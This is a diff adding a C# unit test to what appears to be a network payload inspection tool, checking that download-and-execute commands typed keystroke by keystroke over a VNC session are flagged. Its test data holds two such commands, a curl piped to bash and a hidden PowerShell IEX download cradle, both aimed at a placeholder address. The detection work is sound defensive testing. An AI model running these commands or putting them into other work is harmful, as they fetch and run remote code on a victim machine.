@@ -152,6 +152,29 @@ public class IndicatorPeekTests
         Assert.Equal(found, Say(answer) is Indicator { Name: Indicator.Introduction });
     }
 
+    /// <summary>Keys come one by one, with the pointer between; who types a letter or an address types no loader.</summary>
+    [Theory]
+    [InlineData("curl -s http://203.0.113.9:8000/a|bash", true)]
+    [InlineData("powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", true)]
+    [InlineData("curl -s http://203.0.113.9:8000/figures.csv", false)]
+    [InlineData("http://203.0.113.9/start.html", false)]
+    [InlineData("Dear Ann, I put the curl of the hair into the picture", false)]
+    public void A_loader_that_is_typed_on_a_screen_is_told(string line, bool found)
+    {
+        var state = new PeekState { Application = AppProtocol.Vnc };
+        var peek = new PayloadPeek();
+        PeekInfo? Say(params byte[] p) => peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 5900, p);
+        Assert.Null(Say([.. "RFB 003.008\n"u8]));
+        foreach (char c in line)
+        {
+            Assert.Null(Say(4, 1, 0, 0, 0, 0, 0, (byte)c, 4, 0, 0, 0, 0, 0, 0, (byte)c));
+            Assert.Null(Say(5, 0, 0, 10, 0, 10));
+        }
+
+        Assert.Equal(found, Say(4, 1, 0, 0, 0, 0, 0xFF, 0x0D) is Indicator { Kind: IndicatorKind.RemoteAdmin });
+        Assert.Null(Say(4, 1, 0, 0, 0, 0, 0xFF, 0x0D));
+    }
+
     [Fact]
     public void A_list_of_passwords_is_found_in_an_attachment_too()
     {
